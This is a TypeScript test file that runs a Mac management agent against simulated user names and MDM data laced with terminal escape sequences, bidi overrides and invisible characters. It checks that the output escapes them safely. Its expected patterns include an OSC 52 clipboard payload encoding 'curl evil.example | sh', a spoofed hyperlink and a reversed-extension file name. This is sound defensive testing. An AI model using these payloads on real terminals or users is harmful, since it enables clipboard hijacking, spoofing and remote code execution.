// The agent as a real process on a simulated Mac whose user names, console user and MDM server carry
// escape sequences, bidi overrides and invisible characters (SYNTHETIC outputs written here, the rest are
// the base Mac's real samples): what it prints for a person (collect, status, ea) holds none of them raw;
// what it prints for programs (collect --json) keeps the names exactly, as valid JSON; its log lines
// (stderr under --sysroot) are escaped JSON.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { checkSnapshot } from '../../agent/snapshot/index.ts';
import type { Snapshot } from '../../agent/snapshot/index.ts';
import { runAgent } from '../helpers/agent-process.ts';
import { derivedMac } from '../helpers/derived-mac.ts';
import { assertNoUnsafe, hostile } from '../helpers/hostile-strings.ts';

const BASE = 'applesilicon-user-without-token';
const LIST = '/usr/bin/dscl . -list /Users UniqueID';
const NAMES = [
  'ansi-colour',
  'ansi-cursor',
  'osc8-hyperlink',
  'osc52-clipboard',
  'osc-title',
  'dcs',
  'del',
  'backspace',
  'c1-csi',
  'c1-osc',
  'bidi-override',
  'bidi-embed',
  'bidi-isolate',
  'bidi-marks',
  'zero-width',
  'invisible-format',
  'noncharacter',
  'tag-close',
  'formula-fullwidth-equals',
  'nul',
  'mixed',
].map(hostile);
const COLOUR = hostile('ansi-colour');

const list = [
  '_mbsetupuser             248',
  'alice                    501',
  'bob                      502',
  'jdoe                     1104',
  'root                     0',
  ...NAMES.map((name, i) => `${name}    ${601 + i}`),
  '',
].join('\n');

function hostileMac() {
  return derivedMac(BASE, {
    why: 'user names, the console user and the MDM server carry escape sequences and invisible characters',
    replace: {
      [LIST]: { stdout: list },
      '/usr/bin/stat -f %Su /dev/console': { stdout: `${hostile('osc52-clipboard')}\n` },
      '/usr/bin/profiles status -type enrollment': {
        stdout: `Enrolled via DEP: Yes\nMDM enrollment: Yes (User Approved)\nMDM server: https://mdm.example.com/${hostile('osc8-hyperlink')}\n`,
      },
    },
    // One hostile user the tools answer for; the others make the fakes exit 64 quoting the name.
    add: [
      {
        argv: ['/usr/bin/dscl', '.', '-read', `/Users/${COLOUR}`, 'GeneratedUID', 'AuthenticationAuthority'],
        output: { stdout: 'GeneratedUID: 0F6C3F4E-2B1A-4C5D-8E9F-A0B1C2D3E4F5\n' },
      },
      {
        argv: ['/usr/sbin/sysadminctl', '-secureTokenStatus', COLOUR],
        output: {
          stderr: `2026-03-02 11:55:00.123 sysadminctl[1234:5678] Secure token is DISABLED for user ${COLOUR}\n`,
        },
      },
    ],
  });
}

test('collect, status and ea print hostile names escaped; collect --json keeps them exactly', async (t) => {
  const mac = hostileMac();
  t.after(() => fs.rmSync(path.dirname(mac.root), { recursive: true, force: true }));

  const json = await runAgent(['collect', '--json', ...mac.flags]);
  assert.equal(json.code, 0, json.stderr);
  const s = JSON.parse(json.stdout) as Snapshot;
  assert.deepEqual(checkSnapshot(s), []);
  // The data is what the Mac said, not a rendering of it.
  const names = s.users.map((u) => u.name);
  for (const n of [COLOUR, hostile('bidi-override'), hostile('c1-csi'), hostile('tag-close')])
    assert.ok(names.includes(n), `${JSON.stringify(n)} in ${JSON.stringify(names)}`);
  assert.equal(s.users.find((u) => u.name === COLOUR)?.secureToken, false);
  assert.equal(s.consoleUser, hostile('osc52-clipboard'));
  // The JSON escapes every unsafe character (C0 and C1 controls, DEL, bidi, invisible), not only what
  // JSON.stringify escapes, so `collect --json` in a terminal cannot be recoloured; it stays parseable.
  assertNoUnsafe(json.stdout, 'collect --json');

  const human = await runAgent(['collect', ...mac.flags]);
  assert.equal(human.code, 0, human.stderr);
  assertNoUnsafe(human.stdout, 'collect');
  // With --sysroot the log goes to stderr: JSON lines quoting the names, escaped too.
  assert.match(human.stderr, /\\u009b31mred/);
  for (const out of [human.stderr, json.stderr]) assertNoUnsafe(out, 'the log on stderr');
  assert.match(human.stdout, /^ {2}\\x1b\[31;1mred\\x1b\[0m +uid 601 +token no /m);
  assert.match(human.stdout, /^ {2}evil\\u202egpj\.exe +uid \d+ /m);
  assert.match(human.stdout, /^ {2}\\x9b31mred\\x9b0m +uid \d+ /m);
  assert.match(human.stdout, /^Console {4}\\x1b\]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07bob$/m);
  assert.match(
    human.stdout,
    /, server https:\/\/mdm\.example\.com\/\\x1b\]8;;https:\/\/evil\.example\/\\x1b\\alice/,
  );
  // Each user is one line: no name started a line of its own.
  const block = human.stdout.slice(
    human.stdout.indexOf('\nUsers\n') + 7,
    human.stdout.indexOf('\nCrypto users\n'),
  );
  const lines = block.split('\n');
  assert.equal(lines.length, s.users.length, block);
  for (const l of lines) assert.match(l, /^ {2}\S.* uid -?\d+ +token /, l);
  // Errors quote the fakes' complaints about the names: escaped too.
  assert.ok(s.errors.length >= NAMES.length, JSON.stringify(s.errors.map((e) => e.probe)));

  const status = await runAgent(['status', ...mac.flags]);
  assert.equal(status.code, 0, status.stderr);
  assertNoUnsafe(status.stdout, 'status');
  assert.match(status.stdout, /^Errors +\d+$/m);

  for (const ea of [
    'users-without-securetoken',
    'securetoken-holders',
    'volume-owners',
    'collection-errors',
  ]) {
    const r = await runAgent(['ea', ea, ...mac.flags]);
    assert.equal(r.code, 0, r.stderr);
    assertNoUnsafe(r.stdout, `ea ${ea}`);
    assert.match(r.stdout, /^<result>[^<>\n]*<\/result>\n$/, `ea ${ea}: ${r.stdout.slice(0, 300)}`);
  }
});
